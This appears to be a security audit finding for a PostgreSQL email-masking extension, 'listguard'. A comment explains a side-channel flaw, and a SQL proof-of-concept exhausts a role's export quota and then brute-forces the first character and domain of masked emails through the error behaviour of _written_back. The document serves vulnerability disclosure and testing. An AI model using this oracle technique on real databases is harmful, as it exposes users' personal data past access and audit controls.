-- FINDING (attack2, write-back, low): listguard._written_back(email, text,
-- regclass, int2) is public and may be called in any statement, a SELECT
-- too. Its text argument becomes a placeholder at run time (never counted
-- as pending), and it compares it with the mask, because kept_if_shown()
-- maps a clear reveal to masked. A clear role whose export quota is used up
-- with on_exceed => 'error' (it sees no value, not even masks) still learns
-- the first character and domain of every row, uncharged and unrecorded:
-- the call returns the value (a match) or 22P02 (no match), per guess.
-- Needs the fixture of setup.sql (run as superuser).
\set VERBOSITY terse
\c atk a_clear
-- use up the quota (100/day)
SELECT count(*) FROM (SELECT email::text FROM subs WHERE id <= 200 ORDER BY id LIMIT 120) x;
SELECT email FROM subs WHERE id = 150;
SELECT email::text FROM subs WHERE id = 150;
CREATE FUNCTION pg_temp.mask_of(row_id bigint) RETURNS text LANGUAGE plpgsql AS $$
DECLARE c text; d text; guess text;
BEGIN
  FOREACH d IN ARRAY ARRAY['gmail.com', 'yahoo.com', 'outlook.com', 'example.com', 'example.org'] LOOP
    FOREACH c IN ARRAY regexp_split_to_array('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789', '') LOOP
      guess := c || '***@' || d;
      BEGIN
        PERFORM listguard._written_back(s.email, guess, 'subs'::regclass, 4::int2) FROM subs s WHERE s.id = row_id;
        RETURN guess;
      EXCEPTION WHEN invalid_text_representation THEN NULL;
      END;
    END LOOP;
  END LOOP;
  RETURN NULL;
END $$;
SELECT id, pg_temp.mask_of(id) FROM unnest(ARRAY[1, 150, 251, 252]) id;
